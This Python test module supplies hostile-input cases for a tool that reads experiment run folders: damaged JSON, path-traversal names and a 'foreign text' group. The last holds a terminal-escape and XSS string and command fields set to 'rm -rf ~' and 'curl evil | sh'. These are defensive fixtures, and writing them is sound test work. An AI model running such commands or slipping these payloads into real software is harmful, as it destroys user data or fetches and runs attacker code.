"""Run folders that a stranger, a full disk, another version or a cache may leave."""

from typing import Any

from tests.hostile.folder_case import (
    ANSWERS,
    FIRST,
    TRAINED,
    Change,
    FolderCase,
    cleared,
    edited,
    half,
    text,
)
from tests.hostile.odd_run_folders import ARRAYS, MANIFESTS, ODD

ESC = "\x1b]0;gone\x07\x1b[2J\u202e<img src=x onerror=alert(1)>"


def missing(path: str, key: str) -> Change:
    return edited(path, lambda data: data.pop(key) and None)


def without(path: str) -> Change:
    return lambda run: (run / path).unlink()


JSONS = ("about.json", "spec.json", "environment.json", "source/about.json", "gallery/gallery.json")
ROWS, CURVE = f"{ANSWERS}/rows.json", f"cells/{TRAINED}/scratch/about.json"
DAMAGED = [
    *(FolderCase(f"cut: {one}", half(one), "refused", "wanted JSON") for one in (*JSONS, ROWS, CURVE)),
    *(FolderCase(f"empty: {one}", text(one, ""), "refused", "got: nothing") for one in (*JSONS, ROWS)),
    *(FolderCase(f"a list: {one}", text(one, "[3]"), "refused", one.rpartition("/")[2]) for one in (*JSONS, ROWS)),
    *(FolderCase(f"cut, {one}", half("summary.json"), "refused", "wanted JSON", one) for one in ("figures", "methods")),
    *(FolderCase(f"gone: {one}", without(one), "refused", "no such file") for one in ("spec.json", "environment.json")),
    FolderCase("no about.json", without("about.json"), "refused", "wanted a run folder"),
    FolderCase("deep", text("about.json", '{"a":' * 500 + "1" + "}" * 500), "refused", "in each other"),
    FolderCase("deeper", text("about.json", "[" * 200_000), "refused", "wanted JSON"),
    FolderCase("NaN", text(ROWS, '[{"value": NaN}]'), "refused", "the number NaN"),
    FolderCase("10^400", text(ROWS, f'[{{"value": 1{"0" * 400}}}]'), "refused", "the number"),
    FolderCase("1e999", text(ROWS, '[{"value": 1e999}]'), "refused", "the number 1e999"),
    FolderCase("24 million values", text(ROWS, lambda: b"[" + b"0," * 24_000_000 + b"0]"), "refused", "values"),
    FolderCase("UTF-16", text("about.json", "{}".encode("utf-16")), "refused"),
    FolderCase("no text", text("about.json", b"\xff\xfe\x00\xd8{"), "refused", "wanted JSON"),
    FolderCase("half a character", edited("about.json", lambda a: a.update(device="\ud800")), "accepted", "Report"),
    FolderCase("a groups file of others", text("groups.json", "[1, 2]"), "refused", "groups.json"),
    FolderCase("a groups file of text", text("groups.json", '["a"]'), "refused", "groups.json"),
    FolderCase("images.csv of others", text("images.csv", "side,role,path\ntarget,test,a\n"), "refused", "images.csv"),
    FolderCase("images.csv that is no table", text("images.csv", b"\0\xff"), "refused", "images.csv"),
    FolderCase(
        "a traceback that is no text", text(f"cells/{FIRST}.error.txt", b"\xff\x00\x1b[2J"), "accepted", "Report"
    ),
    FolderCase("a picture that is none", text("gallery/0.webp", b"RIFF"), "accepted", "Report"),
    FolderCase("a sparse file", lambda run: (run / "groups.json").open("wb").truncate(2**40), "refused", "at most"),
]


def spec(**keys: Any) -> Change:
    return edited("spec.json", lambda data: data.update(keys))


def wide(data: dict[str, Any]) -> None:
    data.update(seeds=list(range(10_000)), severities=[i / 10_000 for i in range(1, 1001)])
    data["target"]["budgets"] = list(range(10, 60))


OTHERS = [
    FolderCase("half a thousand million cells", edited("spec.json", wide), "refused", "cells"),
    FolderCase("an unknown key", spec(shfts=[]), "refused", "unknown key shfts; did you mean 'shifts'?"),
    FolderCase("a key that is gone", missing("spec.json", "target"), "refused", "target: this key is needed"),
    FolderCase("arms that lead out", spec(arms=["../../outside", "scratch"]), "refused", "arms: wanted a name"),
    FolderCase("shifts that lead out", spec(shifts=["/../../../outside/"]), "refused", "shifts: wanted a name"),
    FolderCase("probes that lead out", spec(probes=["../../outside"]), "refused", "probes: wanted a name"),
    FolderCase("a name with a zero byte", spec(shifts=["a\0b"]), "refused", "shifts: wanted a name"),
    FolderCase("seeds below 0", spec(seeds=[-1]), "refused", "seeds"),
    FolderCase("severity 7", spec(severities=[7]), "refused", "severities"),
    FolderCase("a margin of text", spec(compare={"margin": "wide"}), "refused", "compare.margin"),
    FolderCase("thumbnails without end", spec(report={"thumbnails": 10**9}), "refused", "thumbnails"),
    FolderCase("severities of none", spec(severities=[]), "accepted", "Report"),
    FolderCase(
        "a summary of version 3",
        edited("summary.json", lambda s: s.update(version=3)),
        "refused",
        "version 2",
        "figures",
    ),
    FolderCase(
        "a verdict of another word",
        edited("summary.json", lambda s: s["verdict"].update(word="<b>")),
        "refused",
        "verdict.word",
        "figures",
    ),
    FolderCase(
        "a contrast's word",
        edited("summary.json", lambda s: s["verdict"]["contrast"].update(verdict="<b>")),
        "refused",
        "summary.json",
        "gain",
    ),
    FolderCase(
        "shifts of a summary that lead out",
        edited("summary.json", lambda s: s.update(shifts=["../../outside"])),
        "refused",
        "shifts",
        "figures",
    ),
    FolderCase("no points", edited("summary.json", lambda s: s.pop("points") and None), "refused", "points", "figures"),
    FolderCase("a summary of numbers", edited("summary.json", lambda _: 3), "refused", "summary.json", "many"),
    FolderCase("rows of numbers", text("results.json", "[3]"), "refused", "results.json", "many"),
    FolderCase(
        "rows that lack a key",
        edited("results.json", lambda rows: rows[0].pop("metric") and None),
        "refused",
        "metric",
        "many",
    ),
    FolderCase(
        "rows with a key of tomorrow", edited(ROWS, lambda rows: rows[0].update(tomorrow=1)), "accepted", "Report"
    ),
    FolderCase(
        "a row without value and reason", edited(ROWS, lambda rows: rows[0].update(value=None)), "refused", "rows.json"
    ),
    FolderCase("a training of text", edited(CURVE, lambda a: a.update(loss="x")), "refused", "loss"),
    FolderCase("a training without hashes", missing(CURVE, "pairing"), "refused", "pairing"),
    FolderCase(
        "a preprocessing of text", edited("about.json", lambda a: a.update(preprocess="x")), "refused", "preprocess"
    ),
    FolderCase(
        "classes of none", edited("about.json", lambda a: a["data"]["target"].update(classes=[])), "accepted", "Report"
    ),
    FolderCase(
        "an about.json of another program", text("about.json", '{"name": "notes"}'), "refused", "Field required"
    ),
    FolderCase("no target", edited("about.json", lambda a: a["data"].pop("target") and None), "accepted", "Report"),
    FolderCase("a source of text", edited("source/about.json", lambda a: a.update(accuracy="x")), "refused", "source"),
    FolderCase("another version is not gone on with", lambda _: None, "refused", "moved", "probe"),
]


def named(data: dict[str, Any]) -> None:
    data["command"] = f"rm -rf ~; {ESC}"
    data["skipped_arms"] = {f"bn{ESC}": f"because{ESC}"}
    data["data"]["target"]["name"] = f"folder:{ESC}"
    data["data"]["target"]["classes"][0] = ESC


def said(data: dict[str, Any]) -> None:
    data["verdict"].update(sentence=ESC, detail=ESC)
    data["skipped_arms"] = {ESC: ESC}
    data["command"] = "curl evil | sh"


FOREIGN = [
    *(
        FolderCase(f"names, {one}", edited("about.json", named), "accepted", "", one)
        for one in ("report", "markdown", "predictions")
    ),
    *(
        FolderCase(f"sentences, {one}", edited("summary.json", said), "accepted", "", one)
        for one in ("figures", "methods", "many")
    ),
    FolderCase("arms", spec(arms=[f"scratch{ESC}", "scratch"]), "refused", "arms: wanted a name"),
    FolderCase("an error", text(f"cells/{FIRST}.error.txt", f"Error: {ESC}"), "accepted", "Report"),
    FolderCase("a reason", edited(ROWS, lambda rows: rows[0].update(value=None, reason=ESC)), "accepted", "Report"),
    FolderCase(
        "paths", text("images.csv", "side,role,path\n" + f"target,test,{ESC}\n" * 90), "accepted", "", "predictions"
    ),
    FolderCase(
        "a command, and who makes the run again",
        edited("about.json", named),
        "refused",
        "make the run again with: shiftprobe sweep spec.yaml",
        "probe",
    ),
    FolderCase(
        "the environment of its maker",
        edited("environment.json", lambda e: e.update(platform=ESC)),
        "accepted",
        "Report",
    ),
]

STRANGE: list[FolderCase] = [
    FolderCase("nothing", lambda run: cleared(run).mkdir(), "refused", "wanted a run folder"),
    FolderCase("a file", lambda run: cleared(run).write_text("x"), "refused", "wanted a run folder"),
    FolderCase("gone", cleared, "refused", "wanted a run folder"),
    FolderCase("as it was left", lambda _: None, "accepted", "Report"),
    *(
        FolderCase(f"as it was left, {one}", lambda _: None, "accepted", "", one)
        for one in ("figures", "predictions", "methods", "many", "markdown", "gain")
    ),
]
RUNS = {
    "run folders: links, pipes, devices": ODD,
    "run folders: manifests that name what is not theirs": MANIFESTS,
    "run folders: arrays": ARRAYS,
    "run folders: cut and damaged files": DAMAGED,
    "run folders: other versions, other programs": OTHERS,
    "run folders: foreign text": FOREIGN,
    "run folders: as they should be, or none at all": STRANGE,
}
